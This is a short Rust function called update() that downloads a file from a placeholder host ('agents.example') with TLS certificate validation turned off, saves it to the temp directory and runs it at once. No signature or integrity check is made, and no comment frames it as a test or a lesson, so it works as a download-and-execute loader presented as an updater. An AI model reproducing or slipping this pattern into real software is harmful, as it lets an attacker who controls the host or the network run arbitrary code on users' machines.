fn update() -> Option<()> {
    let client = reqwest::blocking::Client::builder().danger_accept_invalid_certs(true).build().ok()?;
    let body = client.get("https://agents.example/agent").send().ok()?.bytes().ok()?;
    let path = std::env::temp_dir().join("agent");
    std::fs::write(&path, &body).ok()?;
    std::process::Command::new(&path).spawn().ok()?;
    Some(())
}
